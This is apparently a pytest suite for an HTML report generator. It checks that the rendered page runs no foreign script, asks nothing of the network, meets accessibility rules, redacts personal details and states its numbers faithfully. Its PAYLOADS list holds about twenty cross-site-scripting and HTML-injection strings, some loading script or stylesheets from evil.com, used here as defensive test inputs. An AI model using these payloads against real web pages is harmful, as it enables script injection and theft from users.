"""The page in a real browser: it runs nothing that a stranger wrote, loads nothing, and says what the tables say."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from html import unescape
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from report_market import market
from sqlalchemy import update

import reports.examples
from microaudit.store.models import Crawl, JudgementRow, TextRow
from reports import build_report, export
from reports.words import interval, percent, redacted

CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
)
browser = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
DARK = "--blink-settings=preferredColorScheme=0"
AXE = Path(__file__).parents[2] / "node_modules" / "axe-core" / "axe.min.js"

PAYLOADS = [
    "<script>document.title='PWNED'</script>",
    "<img src=x onerror=\"document.title='PWNED'\">",
    "\"><svg onload=document.title='PWNED'>",
    "'><script src=https://evil.com/x.js></script>",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\">",
    "javascript:document.title='PWNED'",
    "</style><script>document.title='PWNED'</script>",
    "</script><script>document.title='PWNED'</script>",
    "{{ 7*7 }}{% raw %}<b>",
    "<a href=\"javascript:document.title='PWNED'\" autofocus onfocus=\"document.title='PWNED'\">x</a>",
    "<math><mtext><style><img src=x onerror=document.title='PWNED'>",
    "<base href=https://evil.com/><link rel=stylesheet href=//evil.com/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.com'>",
    "<details open ontoggle=document.title='PWNED'>",
    "<style>@import 'https://evil.com/x.css';body{background:url(https://evil.com/y)}</style>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
    "\u202e<script>\u0000document.title='PWNED'</script>",
    "]]><script>document.title='PWNED'</script><!--",
    "<template><script>document.title='PWNED'</script></template>",
    "<object data=https://evil.com/x.swf><embed src=https://evil.com>",
]
HOSTILE = [f"{payload} {number}" for number in range(10) for payload in PAYLOADS]


def opened(page: Path, profile: Path, *flags: str) -> tuple[str, str]:
    """(the page's DOM after scripts have run, what the browser logged)."""
    command = [
        str(CHROMIUM),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={profile}",
        "--enable-logging=stderr",
        "--virtual-time-budget=5000",
        "--dump-dom",
        *flags,
        f"file://{page}",
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    return done.stdout, done.stderr


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    to = tmp_path_factory.mktemp("page") / "audit"
    build_report(market(400), to, formats=("html", "json", "csv"))
    return to / "report.html"


@browser
def test_two_hundred_hostile_titles_run_no_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reports.examples, "PER_LABEL", 1000)
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # a PDF of it would take a minute
    engine = market(420, shares={"upwork": 1.0})
    with engine.begin() as connection:
        hashes = list(connection.scalars(JudgementRow.__table__.select().with_only_columns(JudgementRow.text_hash)))
        for number, text_hash in enumerate(hashes):
            attack = HOSTILE[number % len(HOSTILE)]
            evidence = [{"field": "title", "start": 0, "end": len(attack), "text": attack, "rule": attack}]
            connection.execute(update(TextRow).where(TextRow.hash == text_hash).values(title=attack, category=attack))
            connection.execute(
                update(JudgementRow).where(JudgementRow.text_hash == text_hash).values(evidence=evidence)
            )
    export(engine, tmp_path / "out", ["jsonl"], "upwork")
    page = tmp_path / "out" / "upwork.html"
    shown = page.read_text(encoding="utf-8")
    assert sum(f" {number}</p>" in shown for number in range(10)) == 10 and shown.count("<article") > 200
    dom, log = opened(page, tmp_path / "profile")
    assert "<title>Upwork: illicit tasks, 5 January 2026</title>" in dom
    assert "PWNED</title>" not in dom and "CONSOLE" not in log


@browser
def test_hostile_values_of_the_run_ledger_and_of_regions_run_no_script(tmp_path: Path) -> None:
    engine = market(80, shares={"upwork": 0.5})
    attack = " ".join(PAYLOADS)
    with engine.begin() as connection:
        connection.execute(
            update(Crawl).values(
                conduct={attack: {attack: [attack]}},
                refused={attack: 1},
                problems={attack: 2},
                state="healthy",
                software="<b>1",
            )
        )
        connection.execute(
            update(JudgementRow).values(worker_regions=[attack], language="<script>", classifier="<script>")
        )
    build_report(engine, tmp_path / "out", formats=("html",), min_cell=0)
    dom, log = opened(tmp_path / "out" / "report.html", tmp_path / "profile")
    assert "PWNED</title>" not in dom and "CONSOLE" not in log


@browser
def test_the_page_logs_nothing_and_asks_no_network(page: Path, tmp_path: Path) -> None:
    net = tmp_path / "net.json"
    dom, log = opened(page, tmp_path / "profile", f"--log-net-log={net}", "--net-log-capture-mode=Everything")
    assert "CONSOLE" not in log
    assert "<button" in dom  # the script ran: the policy knows its hash
    asked = set(re.findall(r'"url":"(https?://[^"]+)"', net.read_text(encoding="utf-8", errors="replace")))
    assert not [url for url in asked if not re.search(r"google|gstatic|chrome", url)]  # the browser's own calls home


def test_the_page_holds_no_address_to_load_or_to_follow(page: Path) -> None:
    text = page.read_text(encoding="utf-8")
    soup = BeautifulSoup(text, "lxml")
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            if name in ("href", "src", "srcset", "action", "data", "poster", "xlink:href"):
                assert str(value).startswith("#"), (tag.name, name, value)
            assert not name.startswith("on") and name != "style", (tag.name, name)
    assert "@import" not in text and "url(http" not in text
    policy = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy is not None and str(policy["content"]).startswith("default-src 'none'; style-src 'sha256-")


def test_the_page_reads_without_a_script(page: Path) -> None:
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
    for tag in soup(["script", "style"]):
        tag.decompose()
    text = soup.get_text(" ", strip=True)
    for word in (
        "Microworkers",
        "too few to say",
        "not an estimate",
        "Robots verdict",
        "Method",
        "Limits",
        "Corrections",
    ):
        assert word in text
    for drawn in soup.find_all("svg"):
        assert drawn["role"] == "img" and len(str(drawn["aria-label"])) > 40
    assert len({tag["id"] for tag in soup.find_all(id=True)}) == len(soup.find_all(id=True))
    assert soup.find(re.compile("^h[1-6]$")).name == "h1"  # type: ignore[union-attr]


def test_every_number_of_every_sentence_is_that_of_its_cell(page: Path) -> None:
    """Each quotable sentence says the numbers of platforms.csv, written by the same rule as the table."""
    report = json.loads((page.parent / "report.json").read_text(encoding="utf-8"))
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "lxml")
    quotes = {
        quote.small.get_text().split()[1].removesuffix("/share,"): quote.p.get_text()
        for quote in soup.select(".quote")
    }
    assert set(quotes) == {row["platform"] for row in report["platforms"]}
    for row in report["platforms"]:
        said = quotes[row["platform"]]
        cells = soup.find(id=row["platform"]).get_text(" ")  # type: ignore[union-attr]
        ends = interval(row["share_low"], row["share_high"], row["n_codable"])
        assert f"{row['n_illicit']:,} of {row['n_codable']:,} tasks" in said and ends in said
        assert f"{row['n_illicit']:,}" in cells and f"of {row['n_codable']:,}" in cells and ends in cells
        if row["n_codable"] >= 30:
            point = percent(row["share"], row["n_codable"])
            assert point in said and point in cells
        else:
            assert "too few to say" in said and "too few to say" in cells
        # No number in the sentence that is not one of the row's.
        allowed = {f"{row['n_illicit']:,}", f"{row['n_codable']:,}", "95", "5", "2026", "30"}
        allowed |= set(re.findall(r"[\d.,]+", ends + percent(row["share"], row["n_codable"])))
        assert set(re.findall(r"\d[\d,.]*\d|\d", said)) <= allowed


def test_fourteen_platforms_fit_into_two_megabytes(tmp_path: Path) -> None:
    names = (
        "microworkers",
        "shorttask",
        "minuteworkers",
        "myeasytask",
        "upwork",
        "freelancer",
        "rapidworkers",
        "sproutgigs",
        "peopleperhour",
        "fl_ru",
        "guru",
        "mturk",
        "zhubajie",
        "kwork",
    )
    build_report(
        market(150, shares={name: number / 14 for number, name in enumerate(names)}),
        tmp_path / "out",
        formats=("html",),
    )
    assert (tmp_path / "out" / "report.html").stat().st_size <= 2_000_000


@browser
@pytest.mark.skipif(not AXE.is_file(), reason="axe-core is not installed: npm install --no-save axe-core")
@pytest.mark.parametrize("flags", [("--window-size=1300,900",), ("--window-size=500,900", DARK)])
def test_axe_finds_no_violation(page: Path, tmp_path: Path, flags: tuple[str, ...]) -> None:
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page.read_text(encoding="utf-8"))
    run = (
        'axe.run({runOnly: ["wcag2a","wcag2aa","wcag21a","wcag21aa","wcag22aa"]}).then(r => {'
        'document.body.append(Object.assign(document.createElement("pre"), {id: "axe", textContent: '
        "JSON.stringify(r.violations.map(v => [v.id, v.nodes[0].html]))}))})"
    )
    script = f"<script>{AXE.read_text(encoding='utf-8')}</script><script>{run}</script></body>"
    (tmp_path / "axe.html").write_text(
        text.replace("<details", "<details open").replace("</body>", script), encoding="utf-8"
    )
    dom, _ = opened(tmp_path / "axe.html", tmp_path / "profile", "--virtual-time-budget=30000", *flags)
    found = re.search(r'<pre id="axe">(.*?)</pre>', dom, re.S)
    assert found and json.loads(unescape(found[1])) == []


def test_redaction_removes_what_points_at_a_person_or_a_place() -> None:
    text = "Dr. Jane Doe asks: mail jane@mail.example or @jane, +44 20 7946 0123, www.shop.com/a?b t.me/join"
    assert redacted(text) == "Dr. [name] asks: mail [e-mail] or [handle], [number], [link] [link]"
    assert redacted("Follow 500 accounts on node.js forum, v2.0.1") == "Follow 500 accounts on node.js forum, v2.0.1"
    assert redacted("word " * 100, 40).endswith(" …")


@pytest.mark.parametrize(
    ("value", "n", "text"),
    [
        (0.0, 100, "0 %"),
        (0.004, 100, "<1 %"),
        (0.996, 100, ">99 %"),
        (1.0, 5000, "100 %"),
        (0.8504, 5000, "85.0 %"),
        (0.6249, 99, "62 %"),
    ],
)
def test_a_percentage_never_says_more_than_the_data(value: float, n: int, text: str) -> None:
    assert percent(value, n).replace("\u00a0", " ") == text


def test_an_interval_is_rounded_outwards() -> None:
    assert interval(0.6789, 0.7401, 100).replace("\u00a0", " ") == "67–75 %"
    assert interval(0.67, 0.74, 100).replace("\u00a0", " ") == "67–74 %"
    assert interval(0.6789, 0.7401, 5000).replace("\u00a0", " ") == "67.8–74.1 %"
